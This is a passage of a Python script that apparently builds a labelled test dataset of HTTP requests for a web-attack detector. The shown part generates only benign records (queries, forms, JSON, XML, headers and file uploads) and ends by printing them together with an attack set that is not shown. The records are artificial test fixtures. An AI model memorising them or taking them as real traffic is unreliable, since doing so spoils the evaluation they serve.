        yield {**_get(_query("/api/users", [("q", term), ("page", "1")])), "id": f"{NAME}-search-{n:04d}",
               "category": "benign", "placement": "query"}
        n += 1
        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", term)]),
               "id": f"{NAME}-search-{n:04d}", "category": "benign", "placement": "form"}
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", t)]) for t in PROSE),
                            f"{NAME}-prose", n, "form")
    n = yield from numbered((_form("/admin/users/42/notes", [("csrf_token", "t0k3n"), ("notes", t)]) for t in PROSE),
                            f"{NAME}-notes", n, "form")
    for who in NAMES:
        n += 1
        yield {**_json("/api/users", {"name": who, "email": "person@example.org"}), "id": f"{NAME}-name-{n:04d}",
               "category": "benign", "placement": "json"}
        n += 1
        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("name", who)]),
               "id": f"{NAME}-name-{n:04d}", "category": "benign", "placement": "form"}
    for addr in ADDRESSES:
        n += 1
        yield {**_json("/api/users/42", {"address": addr}), "id": f"{NAME}-address-{n:04d}",
               "category": "benign", "placement": "json"}
        n += 1
        yield {**_xml("/api/users/42", "address", addr), "id": f"{NAME}-address-{n:04d}",
               "category": "benign", "placement": "xml"}
    for url in URLS:
        n += 1
        yield {**_json("/api/users", {"name": "Ann", "website": url}), "id": f"{NAME}-url-{n:04d}",
               "category": "benign", "placement": "json"}
        n += 1
        yield {**_get(_query("/api/users", [("q", "ann"), ("ref", url)])), "id": f"{NAME}-url-{n:04d}",
               "category": "benign", "placement": "query"}
    for k, ua in enumerate(BROWSER_UAS):
        for j, ref in enumerate(REFERERS):
            cookie = COOKIES[(k + j) % len(COOKIES)]
            n += 1
            yield {**_with_headers(_get(f"/api/users?page={j + 1}"), {"User-Agent": ua, "Referer": ref,
                                                                       "Cookie": cookie}),
                   "id": f"{NAME}-header-{n:04d}", "category": "benign", "placement": "header"}
    for k, text in enumerate(CHAT[:60]):
        n += 1
        if k % 2:
            rec = _multipart("/api/users/42/profile", "bio", text)
        else:
            rec = _multipart("/api/users/42/avatar", "avatar", "\x89PNG-data",
                             filename=f"{NAMES[k % len(NAMES)].split()[0].lower()}-avatar-{k}.png")
        yield {**rec, "id": f"{NAME}-upload-{n:04d}", "category": "benign", "placement": "multipart"}


if __name__ == "__main__":
    print_records(attacks(), benign())
